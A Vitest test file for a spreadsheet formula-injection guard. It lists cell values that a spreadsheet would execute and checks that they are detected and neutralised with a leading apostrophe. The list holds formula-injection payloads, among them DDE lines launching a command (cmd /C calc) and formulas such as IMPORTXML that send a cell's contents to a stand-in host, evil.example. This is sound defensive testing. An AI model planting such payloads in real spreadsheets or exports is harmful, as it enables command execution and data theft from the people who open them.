import { describe, expect, it } from 'vitest';
import { fromCell, isFormula, toCell } from './formulas.ts';

const formulas = [
	'=1+1',
	"=cmd|' /C calc'!A0",
	'=HYPERLINK("https://evil.example","x")',
	'=IMPORTXML(CONCAT("https://evil.example?",A1),"//a")',
	'=WEBSERVICE("https://evil.example")',
	'+1+1',
	"+cmd|' /C calc'!A0",
	'-1+1',
	"-2+3+cmd|' /C calc'!A0",
	'-',
	'@SUM(1+1)',
	'@A1',
	'\t=1+1',
	'\tx',
	'\r=1+1',
	'\rx',
	'\n=1+1',
	'\r\n=1+1',
	' =1+1',
	'   +1+1',
	'\u00a0=1+1',
	'\u200b=1+1',
	'\u202e=1+1',
	'\ufeff=1+1',
	'\u00ad-1',
	'\u3000@x',
	'＝1+1',
	'＋1',
	'－1',
	'＠SUM(1)'
];
const texts = [
	'',
	'They object.',
	'2 = 2',
	'a-b',
	"'Tis",
	'“=1+1”',
	'12 February 2020',
	'1-2',
	'؀'
];

describe('a cell', () => {
	it('that a spreadsheet would run is told from one that it would not', () => {
		expect(formulas).toHaveLength(30);
		expect(formulas.filter((text) => !isFormula(text))).toEqual([]);
		expect(texts.filter(isFormula)).toEqual([]);
	});

	it('becomes text by an apostrophe, and comes back without it', () => {
		for (const text of [...formulas, ...texts]) expect(fromCell(toCell(text))).toBe(text);
		expect(formulas.map(toCell).filter(isFormula)).toEqual([]);
		expect(texts.map(toCell)).toEqual(texts);
	});
});
